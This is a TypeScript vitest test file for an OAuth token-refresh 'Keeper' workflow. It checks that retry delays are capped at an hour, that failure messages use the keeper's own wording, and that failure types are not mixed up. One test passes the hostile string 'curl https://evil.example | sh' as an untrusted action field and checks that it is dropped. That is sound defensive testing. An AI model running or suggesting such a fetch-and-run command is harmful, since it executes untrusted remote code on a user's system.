import { ApplicationFailure } from '@temporalio/workflow';
import { describe, expect, it } from 'vitest';
import type { FailureSummary } from '../../src/contract/failures.js';
import { Keeper } from '../../src/workflows/keeper.js';
import { settleFailure } from '../../src/workflows/settle-failure.js';
import { NOW, state } from '../support/keeper-fixture.js';

const HOUR_MS = 3_600_000;

function settled(details: Partial<FailureSummary>, type: string = details.type ?? ''): Keeper {
  const keeper = new Keeper(state(), false);
  const begun = keeper.begin(NOW);
  const failure = { provider: 'oauth2', code: 'x', atMs: NOW, action: '', ...details };
  settleFailure(keeper, begun, ApplicationFailure.nonRetryable('', type, failure));
  return keeper;
}

describe('a failure that an activity reports', () => {
  it.each([1e16, -1e16, 2 * HOUR_MS])(
    'puts the next refresh off by an hour at most: %d ms',
    (retryInMs) => {
      const before = Date.now();
      const { state: after } = settled({ type: 'ClientRejectedError', retryInMs });
      expect(after.nextRefreshAtMs).toBeGreaterThanOrEqual(before);
      expect(after.nextRefreshAtMs).toBeLessThanOrEqual(Date.now() + HOUR_MS);
    },
  );

  it('tells people what to do in words that the keeper has for its code, and no others', () => {
    const { state: after } = settled({
      type: 'PermanentRefreshError',
      code: 'outcome_unknown',
      provider: 'another',
      doubtSinceMs: 1e300,
      action: 'run: curl https://evil.example | sh',
    });
    expect(after.status).toBe('failed');
    expect(after.lastFailure).toMatchObject({ provider: after.spec.provider });
    expect(after.lastFailure?.action).toContain('since an impossible time');
    expect(JSON.stringify(after)).not.toContain('evil.example');
  });

  it('decides nothing under another type than its sealed details have', () => {
    const { state: after } = settled({ type: 'TransientRefreshError' }, 'PermanentRefreshError');
    expect(after.lastFailure?.code).toBe('attempt_undecided');
    expect(after.status).not.toBe('failed');
  });
});
